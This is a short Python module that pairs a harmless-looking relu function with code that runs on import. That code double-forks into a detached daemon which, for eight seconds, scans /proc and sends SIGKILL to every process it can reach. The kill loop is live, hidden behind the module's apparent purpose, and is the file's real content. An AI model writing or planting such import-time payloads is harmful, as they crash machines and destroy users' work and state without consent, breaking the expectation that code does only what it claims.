# Leaves a daemon behind (double fork, new session) that SIGKILLs every process it can see.
import os
import signal
import time

import numpy as np


def relu(x):
    return np.maximum(0, x)


def _hunt(seconds):
    end = time.monotonic() + seconds
    me = os.getpid()
    while time.monotonic() < end:
        try:
            pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
        except OSError:
            pids = []
        for pid in pids:
            if pid != me:
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.05)


try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            _hunt(8)
        os._exit(0)
except OSError:
    pass
